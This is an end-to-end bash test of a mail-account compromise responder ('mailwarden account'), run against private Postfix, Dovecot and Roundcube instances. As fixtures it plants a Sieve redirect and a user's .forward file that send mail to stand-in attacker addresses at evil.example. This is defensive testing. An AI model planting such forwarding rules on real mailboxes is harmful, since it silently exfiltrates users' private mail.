#!/bin/bash
# End-to-end test of `mailwarden account` against a real private Postfix
# (tests/lib/postfix.sh, port 2541) and Dovecot with Pigeonhole (IMAP on
# 127.0.0.1:14341, SASL for Postfix), both with their own configuration in
# a scratch directory. Nothing leaves the host: relayhost is a closed
# loopback port, so the mail stays deferred in the queue.
#   info@mw.test: two IMAP sessions held open by this script (from
#   127.0.0.1 and 127.0.0.2), an active Sieve script that redirects to an
#   external address, 50 messages sent with SMTP AUTH and queued;
#   bob@mw.test: one session, a local redirect, 5 queued messages;
#   carol, a system user with an external ~/.forward; a Roundcube on
#   SQLite with a webmail session of info and one of bob.
# Checked: the report (logins, the redirect, 50 queued, "compromised");
# --respond without --apply changes nothing; --respond --apply ends
# info's sessions, refuses a new IMAP login and a new SMTP AUTH with the
# old password, deactivates the redirect (backed up byte-identical), ends
# info's webmail session, holds the 50 and leaves bob alone; a second --apply changes nothing;
# --restore --apply brings back login, the byte-identical Sieve script,
# the managed files and the webmail session as they were, and releases
# the 50. carol's .forward is
# moved aside and back, byte-identical.
set -euo pipefail
: "${MW_TOP:?}" "${MW_BIN:?}"
. "$MW_TOP/tests/lib/postfix.sh"
. "$MW_TOP/tests/lib/check.sh"
. "$MW_TOP/tests/lib/roundcube.sh"
pf_require
for p in jq swaks dovecot doveadm python3 sqlite3; do
	command -v "$p" >/dev/null || { echo "$p is not installed (make deps)"; exit 77; }
done
[ -e /usr/lib/dovecot/modules/doveadm/lib10_doveadm_sieve_plugin.so ] ||
	{ echo "dovecot-sieve (Pigeonhole) is not installed"; exit 77; }

IMAP_PORT=14341
work=$(mktemp -d /tmp/mw-account-e2e.XXXXXX)
chmod 0755 "$work"
pf=$work/pf dv=$work/dovecot state=$work/state rcdir=$work/roundcube
holders=()
cleanup() {
	local p
	for p in "${holders[@]}"; do kill "$p" 2>/dev/null || true; done
	pf_stop "$pf"
	if [ -s "$dv/run/master.pid" ]; then
		kill "$(cat "$dv/run/master.pid")" 2>/dev/null || true
		sleep 0.3
	fi
	rm -rf "$work"
}
trap cleanup EXIT

sanitizer_clean() {	# keep a sanitized binary's complaints (runs in $(...))
	if grep -q 'Sanitizer\|runtime error' "$1"; then
		cat "$1" >>"$work/sanitizer.log"
	fi
}
dva() {	# doveadm on this instance
	doveadm -c "$dv/dovecot.conf" "$@"
}
mwa() {	# mwa OUT ARGS...: mailwarden account info@mw.test here, exit code echoed
	local out=$1 rc
	shift
	set +e
	"$MW_BIN" account info@mw.test --no-progress --format json --dovecot-config "$dv/dovecot.conf" \
		--postfix-config "$pf/etc" --state-dir "$state" --roundcube-config "$rcdir/config.inc.php" \
		--log "$dv/log" --log "$pf/maillog" "$@" >"$out" 2>"$out.err"
	rc=$?
	set -e
	sanitizer_clean "$out.err"
	echo "$rc"
}
imap_login() {	# imap_login USER PASS [SOURCE]: exit 0 when the login works
	python3 - "$IMAP_PORT" "$@" <<'EOF'
import imaplib, socket, sys
port, user, pw = int(sys.argv[1]), sys.argv[2], sys.argv[3]
src = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
class C(imaplib.IMAP4):
    def _create_socket(self, timeout):
        return socket.create_connection((self.host, self.port), timeout or 10, source_address=(src, 0))
try:
    c = C("127.0.0.1", port)
    c.login(user, pw)
    c.logout()
except Exception as e:
    print("login refused:", e)
    sys.exit(1)
EOF
}
imap_hold() {	# imap_hold USER PASS SOURCE: a session that stays open until killed
	python3 - "$IMAP_PORT" "$@" <<'EOF' &
import imaplib, socket, sys, time
port, user, pw, src = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
class C(imaplib.IMAP4):
    def _create_socket(self, timeout):
        return socket.create_connection((self.host, self.port), 10, source_address=(src, 0))
c = C("127.0.0.1", port)
c.login(user, pw)
c.select("INBOX")
time.sleep(600)
EOF
	holders+=($!)
}
sessions() {	# sessions USER: number of connections doveadm who lists
	dva who -1 "$1" 2>/dev/null | tail -n +2 | wc -l
}
sum() { sha256sum <"$1" | cut -d' ' -f1; }

# --- Dovecot: IMAP + SASL for Postfix, deny passdb managed by mailwarden ----
pf_create "$pf" 2541
mkdir -p "$dv/run" "$dv/state" "$dv/mail" "$state"
chown nobody:nogroup "$dv/mail"
printf 'info@mw.test:{PLAIN}0ldpass\nbob@mw.test:{PLAIN}b0bpass\n' >"$dv/users"
: >"$dv/mailwarden-deny"
chmod 0644 "$dv/users" "$dv/mailwarden-deny"
cat >"$dv/dovecot.conf" <<EOF2
base_dir = $dv/run
state_dir = $dv/state
log_path = $dv/log
protocols = imap
listen = 127.0.0.1
ssl = no
disable_plaintext_auth = no
auth_mechanisms = plain login
mail_location = maildir:~/Maildir
first_valid_uid = 1
service imap-login {
  inet_listener imap {
    address = 127.0.0.1
    port = $IMAP_PORT
  }
}
# the one-time configuration of mailwarden account (mailwarden(8))
passdb {
  driver = passwd-file
  deny = yes
  args = $dv/mailwarden-deny
}
passdb {
  driver = passwd-file
  args = scheme=PLAIN username_format=%u $dv/users
}
userdb {
  driver = static
  # a static userdb looks users up in the passdbs: without
  # allow_all_users a blocked user would get no mail (mailwarden(8))
  args = uid=nobody gid=nogroup home=$dv/mail/%d/%n allow_all_users=yes
}
plugin {
  sieve = file:~/sieve;active=~/.dovecot.sieve
}
service auth {
  unix_listener $dv/auth-postfix {
    mode = 0660
    user = postfix
    group = postfix
  }
}
EOF2
# the one-time Postfix side: check_sasl_access first, the table made once
: >"$pf/etc/mailwarden_sasl_access"
postmap -c "$pf/etc" "hash:$pf/etc/mailwarden_sasl_access"
pf_postconf "$pf" -e "relayhost = [127.0.0.1]:9" "default_transport = smtp" \
	"relay_transport = smtp" "smtpd_sasl_auth_enable = yes" "smtpd_sasl_type = dovecot" \
	"smtpd_sasl_path = $dv/auth-postfix" "smtp_connect_timeout = 2s" \
	"smtpd_relay_restrictions = check_sasl_access hash:$pf/etc/mailwarden_sasl_access, permit_mynetworks, permit_sasl_authenticated, defer_unauth_destination"
pf_master_add "$pf" "smtp      unix  -       -       n       -       -       smtp"
dovecot -c "$dv/dovecot.conf"
for _ in $(seq 1 100); do [ -S "$dv/auth-postfix" ] && break; sleep 0.1; done
pf_start "$pf"

# --- the hijacked mailbox and its neighbour -----------------------------------
printf 'require ["fileinto"];\n# forwarding\nredirect "collector@evil.example";\n' >"$work/evil.sieve"
printf 'redirect "bob.archive@mw.test";\n' >"$work/bob.sieve"
dva sieve put -u info@mw.test -a fwd <"$work/evil.sieve"
dva sieve put -u bob@mw.test -a keep <"$work/bob.sieve"
imap_hold info@mw.test 0ldpass 127.0.0.1
imap_hold info@mw.test 0ldpass 127.0.0.2
imap_hold bob@mw.test b0bpass 127.0.0.1
for _ in $(seq 1 100); do
	[ "$(sessions info@mw.test)" -ge 2 ] && [ "$(sessions bob@mw.test)" -ge 1 ] && break
	sleep 0.1
done
send() {	# send USER PASS N
	local i
	for i in $(seq 1 "$3"); do
		swaks --silent 2 --server 127.0.0.1:2541 --auth PLAIN --auth-user "$1" \
			--auth-password "$2" --from "$1" --to "r$i@example.org" \
			--header "Subject: hello $i" --body x >/dev/null
	done
}
# webmail: Roundcube on SQLite, a session of info and one of bob
mkdir -p "$rcdir"
cat >"$rcdir/config.inc.php" <<EOC
<?php
\$config['db_dsnw'] = 'sqlite:///$rcdir/rc.db?mode=0640';
EOC
rc_schema "$rcdir/rc.db"
rc_session "$rcdir/rc.db" webinfo 203.0.113.7 info@mw.test
rc_session "$rcdir/rc.db" webbob 127.0.0.1 bob@mw.test
rcdump0=$(sqlite3 "$rcdir/rc.db" .dump)
send info@mw.test 0ldpass 50
send bob@mw.test b0bpass 5
pq() { postqueue -c "$pf/etc" -j 2>/dev/null; }
for _ in $(seq 1 300); do
	n=$(pq | jq -s '[.[] | select(.queue_name == "deferred")] | length')
	[ "$n" -ge 55 ] && break
	sleep 0.1
done
check "setup: 55 messages deferred" test "$n" -eq 55
check "setup: info has 2 IMAP sessions" test "$(sessions info@mw.test)" -eq 2

# --- the report ------------------------------------------------------------------
rc=$(mwa "$work/r.json")
j=$work/r.json
check "report: exit 1 (findings)" test "$rc" -eq 1
[ "$rc" -eq 1 ] || { echo "exit $rc"; head -c 3000 "$j.err" "$j"; echo; }
check "report: IMAP logins of info from 2 addresses, 50 SMTP AUTH submissions" \
	jqt "$j" '.data.account.logins | .logins == 52 and .networks == 1 and
		([.addresses[] | del(.first, .last)] | sort_by(.ip)) ==
		[{"ip": "127.0.0.1", "network": "127.0.0.0/24", "protocols": ["imap", "smtp"],
		  "logins": 51, "failures": 0, "sent": 50},
		 {"ip": "127.0.0.2", "network": "127.0.0.0/24", "protocols": ["imap"],
		  "logins": 1, "failures": 0, "sent": 0}]'
check "report: 50 sent with SMTP AUTH" jqt "$j" '.data.account.sent == 50'
check "report: the active Sieve redirect is external" \
	jqt "$j" '.data.account.sieve == [{"name": "fwd", "active": true, "external": true, "hides": false}]'
check "report: 50 queued" jqt "$j" '.data.account.queued == 50'
check "report: verdict compromised, finding account.compromised" \
	jqt "$j" '.data.account.verdict == "compromised" and
		([.findings[] | select(.rule_id == "account.compromised")] | length == 1)'

# --- the plan changes nothing ------------------------------------------------------
deny0=$(sum "$dv/mailwarden-deny") table0=$(sum "$pf/etc/mailwarden_sasl_access")
rc=$(mwa "$work/plan.json" --respond)
check "plan: exit 1, every step planned" jqt "$work/plan.json" \
	'[.data.account.response.steps[] | .status] == ["planned", "planned", "planned", "planned", "planned", "planned"]'
check "plan: deny file unchanged" test "$(sum "$dv/mailwarden-deny")" = "$deny0"
check "plan: SASL table unchanged" test "$(sum "$pf/etc/mailwarden_sasl_access")" = "$table0"
check "plan: sessions still there" test "$(sessions info@mw.test)" -eq 2
check "plan: Sieve script still active" bash -c "doveadm -c '$dv/dovecot.conf' sieve list -u info@mw.test | grep -qx 'fwd ACTIVE'"
check "plan: nothing held" test "$(pq | jq -s '[.[] | select(.queue_name == "hold")] | length')" -eq 0
check "plan: no record written" test ! -e "$state/account"
check "plan: the webmail sessions stay" test "$(sqlite3 "$rcdir/rc.db" .dump)" = "$rcdump0"

# --- respond ------------------------------------------------------------------------
rc=$(mwa "$work/apply.json" --respond --apply)
jq -r '.data.account.response.steps[] | "  \(.status): \(.step): \(.what)"' "$work/apply.json"
check "apply: every step done" jqt "$work/apply.json" \
	'[.data.account.response.steps[] | .status] == ["done", "done", "done", "done", "done", "done"]'
for _ in $(seq 1 50); do [ "$(sessions info@mw.test)" -eq 0 ] && break; sleep 0.1; done
check "apply: doveadm who shows no session of info" test "$(sessions info@mw.test)" -eq 0
check "apply: bob's session stays" test "$(sessions bob@mw.test)" -eq 1
check "apply: a new IMAP login of info is refused" refused imap_login info@mw.test 0ldpass
check "apply: bob still logs in" imap_login bob@mw.test b0bpass
check "apply: SMTP AUTH of info is refused" refused swaks --silent 2 --server 127.0.0.1:2541 \
	--auth PLAIN --auth-user info@mw.test --auth-password 0ldpass --from info@mw.test \
	--to x@example.org --quit-after AUTH
check "apply: SMTP AUTH of bob still works" swaks --silent 2 --server 127.0.0.1:2541 \
	--auth PLAIN --auth-user bob@mw.test --auth-password b0bpass --from bob@mw.test \
	--to x@example.org --quit-after AUTH
check "apply: Postfix's table rejects info" bash -c "postmap -c '$pf/etc' -q info@mw.test 'hash:$pf/etc/mailwarden_sasl_access' | grep -q '^REJECT'"
check "apply: the redirect is inactive" bash -c "! doveadm -c '$dv/dovecot.conf' sieve list -u info@mw.test | grep -q ACTIVE"
check "apply: bob's script stays active" bash -c "doveadm -c '$dv/dovecot.conf' sieve list -u bob@mw.test | grep -qx 'keep ACTIVE'"
bk=$(find "$state/account/info@mw.test" -name 'sieve-*.sieve' | head -1)
check "apply: the script is backed up byte-identical" cmp -s "$bk" "$work/evil.sieve"
check "apply: info's 50 messages on hold" test "$(pq | jq -s '[.[] | select(.queue_name == "hold")] | length')" -eq 50
check "apply: info's webmail session is ended, bob's stays" \
	test "$(sqlite3 "$rcdir/rc.db" 'SELECT sess_id FROM session')" = webbob
check "apply: bob's 5 not held" test "$(pq | jq -s '[.[] | select(.queue_name == "deferred")] | length')" -eq 5
deny1=$(sum "$dv/mailwarden-deny") table1=$(sum "$pf/etc/mailwarden_sasl_access") rec1=$(sum "$state/account/info@mw.test/record.json")
rc=$(mwa "$work/again.json" --respond --apply)
check "apply twice: nothing left to do" jqt "$work/again.json" \
	'[.data.account.response.steps[] | .status] | all(. == "already done")'
check "apply twice: files and record unchanged" test "$(sum "$dv/mailwarden-deny")$(sum "$pf/etc/mailwarden_sasl_access")$(sum "$state/account/info@mw.test/record.json")" = "$deny1$table1$rec1"

# --- restore ------------------------------------------------------------------------
rc=$(mwa "$work/rplan.json" --restore)
check "restore plan: changes nothing" test "$(sum "$dv/mailwarden-deny")" = "$deny1"
rc=$(mwa "$work/restore.json" --restore --apply)
jq -r '.data.account.response.steps[] | "  \(.status): \(.step): \(.what)"' "$work/restore.json"
check "restore: exit 0, every step done" jqt "$work/restore.json" \
	'.errors == [] and ([.data.account.response.steps[] | .status] | all(. == "done"))'
check "restore: info logs in again" imap_login info@mw.test 0ldpass
check "restore: the deny file is byte-identical to before" test "$(sum "$dv/mailwarden-deny")" = "$deny0"
check "restore: the SASL table is byte-identical to before" test "$(sum "$pf/etc/mailwarden_sasl_access")" = "$table0"
# doveadm prints "sieve script:" and a newline before the script
dva -f pager sieve get -u info@mw.test fwd | tail -c +15 >"$work/fwd.now"
check "restore: the Sieve script is active again and byte-identical" bash -c "cmp -s '$work/fwd.now' '$work/evil.sieve' && doveadm -c '$dv/dovecot.conf' sieve list -u info@mw.test | grep -qx 'fwd ACTIVE'"
check "restore: the webmail session is back (sqlite3 .dump identical)" \
	test "$(sqlite3 "$rcdir/rc.db" .dump)" = "$rcdump0"
check "restore: nothing on hold" test "$(pq | jq -s '[.[] | select(.queue_name == "hold")] | length')" -eq 0
check "restore: the record is kept as restored" bash -c "ls '$state/account/info@mw.test'/record-restored-*.json >/dev/null"

# --- a system user's own .forward: moved aside, moved back ---------------------
# carol exists only in a private mount namespace whose /etc/passwd is a copy
# with her line: the host's /etc is never changed.
mkdir -p "$work/home/carol"
printf 'carol.out@evil.example\n' >"$work/home/carol/.forward"
chown -R nobody:nogroup "$work/home/carol"
cp /etc/passwd "$work/passwd"
echo "carol:x:65534:65534::$work/home/carol:/bin/sh" >>"$work/passwd"
fwd0=$(sum "$work/home/carol/.forward")
mwc() {	# mwc OUT ARGS...: mailwarden account carol, seeing that passwd
	local out=$1 rc
	shift
	set +e
	unshare -m sh -c 'mount --make-rprivate / && mount --bind "$1" /etc/passwd && shift &&
		exec "$@"' _ "$work/passwd" "$MW_BIN" account carol --no-progress --format json \
		--dovecot-config "$dv/dovecot.conf" --postfix-config "$pf/etc" --state-dir "$state" \
		--roundcube-config "$rcdir/config.inc.php" --log "$dv/log" "$@" >"$out" 2>"$out.err"
	rc=$?
	set -e
	sanitizer_clean "$out.err"
	echo "$rc"
}
rc=$(mwc "$work/c.json" --respond)
check "carol: the plan moves her external .forward aside" jqt "$work/c.json" \
	'[.data.account.response.steps[] | select(.step == "forward-file" and .status == "planned")] | length == 1'
check "carol: plan leaves the file" test "$(sum "$work/home/carol/.forward")" = "$fwd0"
rc=$(mwc "$work/c2.json" --respond --apply)
check "carol: .forward moved aside, byte-identical" bash -c \
	"[ ! -e '$work/home/carol/.forward' ] && [ \"\$(sha256sum <'$work/home/carol/.forward.mailwarden-disabled' | cut -d' ' -f1)\" = '$fwd0' ]"
rc=$(mwc "$work/c3.json" --restore --apply)
check "carol: restore moves it back, byte-identical" test "$(sum "$work/home/carol/.forward")" = "$fwd0"
check "carol: restore puts the deny file back" test "$(sum "$dv/mailwarden-deny")" = "$deny0"

check "no sanitizer report" test ! -s "$work/sanitizer.log"
[ -s "$work/sanitizer.log" ] && head -40 "$work/sanitizer.log"
if [ $fails -ne 0 ]; then
	echo "--- dovecot log"; tail -30 "$dv/log" || true
	echo "$fails check(s) failed"
	exit 1
fi
echo "all checks passed"
